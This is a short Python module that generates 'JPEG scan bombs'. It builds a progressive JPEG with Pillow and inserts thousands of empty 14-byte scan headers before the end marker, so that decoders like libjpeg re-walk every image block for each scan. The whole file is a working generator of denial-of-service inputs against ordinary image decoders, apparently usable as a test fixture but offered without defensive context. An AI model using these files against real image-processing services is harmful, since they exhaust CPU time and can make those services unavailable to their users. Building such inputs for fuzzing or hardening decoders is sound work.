"""JPEG scan bombs: a progressive JPEG followed by thousands of empty scans.

Each scan makes the decoder walk every block of the image again (about 0.5 ms per scan at
4000x4000 here), while it costs the file 14 bytes: the scan header of a DC scan of the three
components and no entropy-coded data (libjpeg warns and carries on).
"""

from __future__ import annotations

import io
import struct

from PIL import Image

# SOS: length 12, three components (ids 1, 2, 3, tables 0/0, 1/1, 1/1), Ss=0, Se=0, Ah/Al=0.
EMPTY_SCAN = b"\xff\xda" + struct.pack(">H", 12) + bytes([3, 1, 0x00, 2, 0x11, 3, 0x11, 0, 0, 0])


def progressive_jpeg(size: tuple[int, int] = (4000, 4000)) -> bytes:
    """An ordinary progressive JPEG (libjpeg's default script: 10 scans)."""
    buffer = io.BytesIO()
    Image.new("RGB", size, (90, 120, 200)).save(buffer, "JPEG", progressive=True, quality=50)
    return buffer.getvalue()


def scan_bomb(scans: int, size: tuple[int, int] = (4000, 4000)) -> bytes:
    """`progressive_jpeg(size)` with `scans` empty scans inserted before its end marker."""
    data = progressive_jpeg(size)
    assert data.endswith(b"\xff\xd9")
    return data[:-2] + EMPTY_SCAN * scans + b"\xff\xd9"
